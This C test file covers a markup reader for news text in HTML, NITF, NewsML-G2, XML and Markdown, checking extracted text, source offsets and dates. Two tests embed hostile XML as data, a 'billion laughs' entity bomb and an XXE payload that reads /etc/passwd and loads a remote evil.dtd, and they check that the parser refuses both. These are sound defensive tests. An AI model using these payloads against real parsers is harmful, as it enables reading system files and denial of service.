/* Markup input: HTML, NITF, NewsML-G2, generic XML and Markdown; exact source offsets through
 * inline tags and entities, chrome left out, dates from metadata, hostile documents. */
#include <time.h>

#include "helpers.h"

static char *read_fixture(const char *name, size_t *len)
{
    const char *dir = getenv("CD_FIXTURES");
    char path[512];
    snprintf(path, sizeof path, "%s/%s", dir ? dir : "tests/fixtures", name);
    FILE *f = fopen(path, "rb");
    if (!f) fail_msg("cannot open %s", path);
    static char buf[1 << 16];
    *len = fread(buf, 1, sizeof buf - 1, f);
    buf[*len] = 0;
    fclose(f);
    return buf;
}

static cd_doc *analyze_file(const char *name, const char **src)
{
    size_t len;
    *src = read_fixture(name, &len);
    cd_options opt = {0};
    opt.filename = name;
    return analyze_opts(*src, &opt);
}

static cd_doc *analyze_as(const char *src, cd_input input)
{
    cd_options opt = {0};
    opt.input = input;
    return analyze_opts(src, &opt);
}

static const char *text_of(const cd_doc *doc)
{
    size_t n;
    return cd_doc_text(doc, &n);
}

/* The map runs are sorted, cover the text, and point into the source. */
static void check_map(const cd_doc *doc)
{
    size_t tlen, slen, n = cd_doc_segments(doc, 0, NULL), at = 0;
    cd_doc_text(doc, &tlen);
    cd_doc_source(doc, &slen);
    for (size_t i = 0; i < n; i++) {
        cd_segment s;
        cd_doc_segments(doc, i, &s);
        assert_int_equal(s.text, at);
        assert_true(s.src + s.src_len <= slen);
        at += s.text_len;
    }
    if (n) assert_int_equal(at, tlen);
}

/* The sentence whose source text starts with `prefix`. */
static const cd_sentence *sentence_starting(const cd_doc *doc, const char *prefix)
{
    size_t n;
    const cd_sentence *s = cd_doc_sentences(doc, &n);
    for (size_t i = 0; i < n; i++)
        if (strncmp(span_text(doc, s[i].span), prefix, strlen(prefix)) == 0) return &s[i];
    fail_msg("no sentence starts with '%s'", prefix);
    return NULL;
}

/* ---- HTML ------------------------------------------------------------------------------------ */

static void test_html_body_and_chrome(void **state)
{
    (void)state;
    const char *src;
    cd_doc *doc = analyze_file("markup_article.html", &src);
    assert_int_equal(cd_doc_input(doc), CD_INPUT_HTML);
    assert_string_equal(cd_doc_date(doc), "2019-11-18");
    assert_string_equal(text_of(doc),
                        "Transit agency raises fares\n\n"
                        "The agency raised fares by 8% on Monday, officials said & riders groaned about the change.\n\n"
                        "\xE2\x80\x9CIt is too much,\xE2\x80\x9D said Ana L\xC3\xB3pez, who pays $120 a month for her pass, in an interview.\n\n"
                        "Budget gap\n\n"
                        "The board said the increase would close a gap of $40 million, and that service would not be cut this year.\n\n"
                        "Riders can comment on the plan until Dec. 15, the board said.");
    const char *chrome[] = {"News", "Sport", "Share", "Related", "Bus lanes", "Sign up", "Copyright", "tracking",
                            "color", "Correction box", "Daily Example"};
    for (size_t i = 0; i < sizeof chrome / sizeof *chrome; i++) assert_null(strstr(text_of(doc), chrome[i]));
    check_map(doc);
    cd_doc_free(doc);
}

static void test_html_offsets_through_tags_and_entities(void **state)
{
    (void)state;
    const char *src;
    cd_doc *doc = analyze_file("markup_article.html", &src);
    /* a sentence across <b>...</b>, an entity and a line break maps to the covering source span */
    const cd_sentence *s = sentence_starting(doc, "The agency");
    assert_int_equal(s->span.start, offset_of(src, "The agency"));
    assert_int_equal(s->span.stop, offset_of(src, "groaned about the change.") + strlen("groaned about the change."));
    assert_int_equal(span_line(doc, s->span), 17);
    assert_int_equal(span_col(doc, s->span), 4);
    /* a sentence that starts with an entity starts at the entity */
    s = sentence_starting(doc, "&#8220;It is");
    assert_int_equal(s->span.start, offset_of(src, "&#8220;It is"));
    /* the headline is a segment of its own */
    s = sentence_starting(doc, "Transit agency raises fares");
    assert_int_equal(s->span.start, offset_of(src, "Transit agency raises fares</h1>"));
    assert_true(s->headline);
    s = sentence_starting(doc, "Budget gap");
    assert_true(s->headline);
    assert_int_equal(s->span.stop - s->span.start, strlen("Budget gap"));
    /* numbers inside inline tags and after entities */
    const cd_number *n = find_number(doc, "8%");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "8%</b>"));
    assert_int_equal(n->span.stop, offset_of(src, "8%</b>") + 2);
    n = find_number(doc, "$120");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "$120"));
    /* text offsets map through the decoded entity: "ó" is the whole "&oacute;" */
    size_t tlen;
    const char *text = cd_doc_text(doc, &tlen);
    size_t t = offset_of(text, "\xC3\xB3pez");
    assert_int_equal(cd_doc_source_offset(doc, t, 0), offset_of(src, "&oacute;"));
    assert_int_equal(cd_doc_source_offset(doc, t + 2, 1), offset_of(src, "&oacute;") + 8);
    assert_int_equal(cd_doc_source_offset(doc, t + 2, 0), offset_of(src, "pez,"));
    cd_doc_free(doc);
}

static void test_html_copydesk_off(void **state)
{
    (void)state;
    const char *src = "<p>First claim: fares rose 5%.</p><!-- copydesk off --><p>Quoted: prices fell 9%.</p>"
                      "<!--copydesk on--><p>Last line of the story.</p>";
    cd_doc *doc = analyze_as(src, CD_INPUT_HTML);
    assert_string_equal(text_of(doc), "First claim: fares rose 5%.\n\nLast line of the story.");
    assert_null(find_number(doc, "9%"));
    cd_doc_free(doc);
}

static void test_html_date_sources(void **state)
{
    (void)state;
    cd_doc *doc = analyze_as("<html><body><article><time datetime=\"2018-07-02\">July 2</time>"
                             "<p>The plant opened on Monday with 300 workers, the company said.</p></article></body></html>",
                             CD_INPUT_HTML);
    assert_string_equal(cd_doc_date(doc), "2018-07-02");
    cd_doc_free(doc);
    doc = analyze_as("<html><head><script type=\"application/ld+json\">{\"@type\":\"NewsArticle\","
                     "\"datePublished\": \"2017-12-26T08:00:00Z\"}</script></head><body><p>Text of the story here.</p></body></html>",
                     CD_INPUT_HTML);
    assert_string_equal(cd_doc_date(doc), "2017-12-26");
    cd_doc_free(doc);
    /* the caller's date wins over the page's */
    cd_options opt = {0};
    opt.input = CD_INPUT_HTML;
    opt.date = "2020-01-01";
    doc = analyze_opts("<meta name=\"date\" content=\"2017-12-26\"><p>Story text.</p>", &opt);
    assert_string_equal(cd_doc_date(doc), "2020-01-01");
    cd_doc_free(doc);
    /* no date anywhere */
    doc = analyze_as("<p>No date in this page at all.</p>", CD_INPUT_HTML);
    assert_null(cd_doc_date(doc));
    cd_doc_free(doc);
}

static void test_html_whitespace_and_breaks(void **state)
{
    (void)state;
    const char *src = "<div><p>Line one\n   continues here.</p><p>Second<br>Line two</p></div>";
    cd_doc *doc = analyze_as(src, CD_INPUT_HTML);
    assert_string_equal(text_of(doc), "Line one continues here.\n\nSecond\nLine two");
    size_t n;
    const cd_sentence *s = cd_doc_sentences(doc, &n);
    assert_int_equal(n, 3);
    assert_string_equal(span_text(doc, s[0].span), "Line one\n   continues here.");
    check_map(doc);
    cd_doc_free(doc);
}

static void test_html_deep_nesting(void **state)
{
    (void)state;
    size_t depth = 100000, len = depth * 5 + 64;
    char *src = malloc(len);
    assert_non_null(src);
    size_t k = 0;
    for (size_t i = 0; i < depth; i++) k += (size_t)sprintf(src + k, "<div>");
    k += (size_t)sprintf(src + k, "<p>Deep text is still read.</p>");
    src[k] = 0;
    clock_t t0 = clock();
    cd_doc *doc = analyze_as(src, CD_INPUT_HTML);
    assert_non_null(strstr(text_of(doc), "Deep text is still read."));
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 20);
    check_map(doc);
    cd_doc_free(doc);
    free(src);
}

static void test_html_broken_markup(void **state)
{
    (void)state;
    const char *src = "<html><body><p>Unclosed <b>bold and <i>italic text here.</p><p>Next &bogus; para</div></body>";
    cd_doc *doc = analyze_as(src, CD_INPUT_HTML);
    assert_non_null(strstr(text_of(doc), "Unclosed bold and italic text here."));
    assert_non_null(strstr(text_of(doc), "Next &bogus; para"));
    check_map(doc);
    cd_doc_free(doc);
}

/* ---- XML ------------------------------------------------------------------------------------- */

static void test_nitf(void **state)
{
    (void)state;
    const char *src;
    cd_doc *doc = analyze_file("markup_nitf.xml", &src);
    assert_int_equal(cd_doc_input(doc), CD_INPUT_XML);
    assert_string_equal(cd_doc_date(doc), "2015-12-10");
    assert_string_equal(text_of(doc), "Harbor dredging to cost $2.1 billion\n\nBy Jo Example\n\n"
                                      "The port said dredging would cost $2.1 billion & take four years.\n\n"
                                      "\xE2\x80\x9CWe need deeper water,\xE2\x80\x9D said the director, Sam Reyes.");
    const cd_sentence *s = sentence_starting(doc, "&#8220;We need");
    assert_int_equal(s->span.start, offset_of(src, "&#8220;We need"));
    assert_int_equal(s->span.stop, offset_of(src, "</person>.") + strlen("</person>."));
    s = sentence_starting(doc, "The port said");
    assert_int_equal(s->span.stop, offset_of(src, "four years.") + strlen("four years."));
    const cd_number *n = find_number(doc, "$2.1 billion");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "$2.1 billion</hl1>"));
    assert_null(strstr(text_of(doc), "Internal title"));
    assert_null(strstr(text_of(doc), "Copyright"));
    assert_int_equal(count_findings(doc, "markup"), 0);
    check_map(doc);
    cd_doc_free(doc);
}

static void test_newsml_g2(void **state)
{
    (void)state;
    const char *src;
    cd_doc *doc = analyze_file("markup_g2.xml", &src);
    assert_string_equal(cd_doc_date(doc), "2020-03-01"); /* contentCreated before firstCreated */
    assert_string_equal(text_of(doc), "City council approves new budget\n\n"
                                      "The council voted 7-2 to approve a budget of $310 million.\n\n"
                                      "Spending on parks rises 12% & libraries get more hours.");
    const cd_number *n = find_number(doc, "12%");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "12%"));
    const cd_sentence *s = sentence_starting(doc, "Spending");
    assert_int_equal(s->span.stop, offset_of(src, "hours.") + 6);
    check_map(doc);
    cd_doc_free(doc);
}

static void test_newsml_g2_description_without_body(void **state)
{
    (void)state;
    const char *src = "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta>"
                      "<headline>Storm closes schools</headline>"
                      "<description>All 40 schools in the county closed on Tuesday.</description>"
                      "</contentMeta></newsItem>";
    cd_doc *doc = analyze_as(src, CD_INPUT_XML);
    assert_string_equal(text_of(doc), "Storm closes schools\n\nAll 40 schools in the county closed on Tuesday.");
    cd_doc_free(doc);
}

static void test_generic_xml(void **state)
{
    (void)state;
    const char *src = "<?xml version=\"1.0\"?>\r\n<doc><title>A title</title><para>Mixed <em>content</em> stays\r\n"
                      "one sentence &lt;here&gt;.</para><para><![CDATA[Raw <text> too.]]></para></doc>";
    cd_doc *doc = analyze_as(src, CD_INPUT_XML);
    assert_string_equal(text_of(doc), "A title\n\nMixed content stays one sentence <here>.\n\nRaw <text> too.");
    const cd_sentence *s = sentence_starting(doc, "Mixed");
    assert_int_equal(s->span.stop, offset_of(src, "&gt;.") + 5);
    s = sentence_starting(doc, "Raw");
    assert_int_equal(s->span.start, offset_of(src, "Raw <text>"));
    check_map(doc);
    cd_doc_free(doc);
}

static void test_xml_latin1(void **state)
{
    (void)state;
    const char *src = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><doc><p>Caf\xE9 prices rose 4%.</p></doc>";
    cd_doc *doc = analyze_as(src, CD_INPUT_XML);
    assert_string_equal(text_of(doc), "Caf\xC3\xA9 prices rose 4%.");
    const cd_number *n = find_number(doc, "4%");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "4%"));
    assert_int_equal(count_findings(doc, "invalid-utf8"), 0);
    cd_doc_free(doc);
}

static void test_xml_billion_laughs_refused(void **state)
{
    (void)state;
    const char *src = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
                      "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
                      "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
                      "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
                      "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
                      "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
                      "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
                      "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
                      "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
                      "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
                      "]>\n<lolz>Before &lol9; after.</lolz>";
    clock_t t0 = clock();
    cd_doc *doc = analyze_as(src, CD_INPUT_XML);
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 2);
    size_t len;
    cd_doc_text(doc, &len);
    assert_true(len < 100);
    assert_null(strstr(text_of(doc), "lollol"));
    assert_int_equal(count_findings(doc, "markup"), 1);
    cd_doc_free(doc);
}

static void test_xml_external_entity_refused(void **state)
{
    (void)state;
    const char *src = "<?xml version=\"1.0\"?>\n<!DOCTYPE doc [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"
                      "<!ENTITY % remote SYSTEM \"http://example.com/evil.dtd\">%remote;]>\n<doc>Secret: &xxe;</doc>";
    cd_doc *doc = analyze_as(src, CD_INPUT_XML);
    assert_null(strstr(text_of(doc), "root:"));
    assert_non_null(strstr(text_of(doc), "Secret:"));
    assert_int_equal(count_findings(doc, "markup"), 1);
    cd_doc_free(doc);
}

static void test_xml_broken_and_deep(void **state)
{
    (void)state;
    cd_doc *doc = analyze_as("<story><p>Text one is read.</p><p>Text two <b>never closes.</story>", CD_INPUT_XML);
    assert_non_null(strstr(text_of(doc), "Text one is read."));
    const cd_finding *f = find_finding(doc, "markup");
    assert_non_null(f);
    assert_int_equal(f->severity, CD_SEV_WARNING);
    cd_doc_free(doc);

    size_t depth = 100000;
    char *src = malloc(depth * 3 + 64);
    assert_non_null(src);
    size_t k = 0;
    for (size_t i = 0; i < depth; i++) k += (size_t)sprintf(src + k, "<a>");
    strcpy(src + k, "deep");
    doc = analyze_as(src, CD_INPUT_XML);
    assert_int_equal(count_findings(doc, "markup"), 1);
    cd_doc_free(doc);
    free(src);
}

static void test_xml_unusable_is_an_error(void **state)
{
    (void)state;
    cd_options opt = {0};
    opt.input = CD_INPUT_XML;
    cd_doc *doc = NULL;
    char err[256] = "";
    const char *src = "this is not XML at all";
    assert_int_equal(cd_analyze(src, strlen(src), &opt, &doc, err, sizeof err), CD_ERR_PARSE);
    assert_null(doc);
    assert_non_null(strstr(err, "not XML"));
}

/* ---- Markdown -------------------------------------------------------------------------------- */

static void test_markdown(void **state)
{
    (void)state;
    const char *src;
    cd_doc *doc = analyze_file("markup_story.md", &src);
    assert_int_equal(cd_doc_input(doc), CD_INPUT_MARKDOWN);
    assert_string_equal(cd_doc_date(doc), "2019-11-18");
    assert_string_equal(text_of(doc), "Transit agency raises fares\n\n"
                                      "The agency raised fares by 8% on Monday, officials said. "
                                      "Riders pay a month, and many of them are angry about it.\n\n"
                                      "The board meets on Dec. 15.\n\nComments close a week later.");
    const cd_sentence *s = sentence_starting(doc, "The agency");
    assert_int_equal(s->span.stop, offset_of(src, "officials said.") + strlen("officials said."));
    s = sentence_starting(doc, "Riders pay");
    assert_int_equal(s->span.stop, offset_of(src, "_angry_ about it.") + strlen("_angry_ about it."));
    const cd_number *n = find_number(doc, "8%");
    assert_non_null(n);
    assert_int_equal(n->span.start, offset_of(src, "8%**"));
    assert_null(find_number(doc, "99%")); /* code block */
    assert_null(find_number(doc, "50%")); /* copydesk off */
    check_map(doc);
    cd_doc_free(doc);
}

static void test_markdown_inline_rules(void **state)
{
    (void)state;
    const char *src = "Costs rose 5 * 3 times, says snake_case_name \\*not emphasis\\* and ![a chart](c.png) "
                      "[a link][ref] &amp; more.\n\n[ref]: https://example.com\n\n    indented code 77%\n";
    cd_doc *doc = analyze_as(src, CD_INPUT_MARKDOWN);
    assert_string_equal(text_of(doc), "Costs rose 5 * 3 times, says snake_case_name *not emphasis* and a link & more.");
    check_map(doc);
    cd_doc_free(doc);
}

/* ---- choosing the reader --------------------------------------------------------------------- */

static void test_auto_detection(void **state)
{
    (void)state;
    struct {
        const char *src, *filename;
        cd_input want;
    } cases[] = {
        {"<!DOCTYPE html><html><body><p>Hi there.</p></body></html>", NULL, CD_INPUT_HTML},
        {"<?xml version=\"1.0\"?><nitf><body><body.content><p>Hi.</p></body.content></body></nitf>", NULL, CD_INPUT_XML},
        {"---\ndate: 2019-01-01\n---\nHello.", NULL, CD_INPUT_MARKDOWN},
        {"# Heading\n\nText.", NULL, CD_INPUT_MARKDOWN},
        {"The mayor said 40 people came. It rained.", NULL, CD_INPUT_TEXT},
        {"<p>Looks like HTML</p>", "story.txt", CD_INPUT_TEXT},
        {"Plain words.", "page.HTML", CD_INPUT_HTML},
        {"<x>y</x>", "feed.xml", CD_INPUT_XML},
        {"<nitf><body>Hi.</body></nitf>", NULL, CD_INPUT_XML},
        {"<=30 people came, the mayor said.", NULL, CD_INPUT_TEXT},
        {"< 5 percent of voters came.", NULL, CD_INPUT_TEXT},
        {"<3 the city, says the mayor.", NULL, CD_INPUT_TEXT},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        cd_options opt = {0};
        opt.filename = cases[i].filename;
        cd_doc *doc = analyze_opts(cases[i].src, &opt);
        assert_int_equal(cd_doc_input(doc), cases[i].want);
        cd_doc_free(doc);
    }
    cd_doc *doc = analyze("Plain text has no map.", NULL);
    assert_int_equal(cd_doc_segments(doc, 0, NULL), 0);
    cd_doc_free(doc);
}

static void test_empty_inputs(void **state)
{
    (void)state;
    cd_input kinds[] = {CD_INPUT_HTML, CD_INPUT_MARKDOWN};
    for (size_t i = 0; i < 2; i++) {
        cd_doc *doc = analyze_as("", kinds[i]);
        assert_string_equal(text_of(doc), "");
        cd_doc_free(doc);
        doc = analyze_as("<script>x()</script>", kinds[i]);
        check_map(doc);
        cd_doc_free(doc);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_html_body_and_chrome),
        cmocka_unit_test(test_html_offsets_through_tags_and_entities),
        cmocka_unit_test(test_html_copydesk_off),
        cmocka_unit_test(test_html_date_sources),
        cmocka_unit_test(test_html_whitespace_and_breaks),
        cmocka_unit_test(test_html_deep_nesting),
        cmocka_unit_test(test_html_broken_markup),
        cmocka_unit_test(test_nitf),
        cmocka_unit_test(test_newsml_g2),
        cmocka_unit_test(test_newsml_g2_description_without_body),
        cmocka_unit_test(test_generic_xml),
        cmocka_unit_test(test_xml_latin1),
        cmocka_unit_test(test_xml_billion_laughs_refused),
        cmocka_unit_test(test_xml_external_entity_refused),
        cmocka_unit_test(test_xml_broken_and_deep),
        cmocka_unit_test(test_xml_unusable_is_an_error),
        cmocka_unit_test(test_markdown),
        cmocka_unit_test(test_markdown_inline_rules),
        cmocka_unit_test(test_auto_detection),
        cmocka_unit_test(test_empty_inputs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
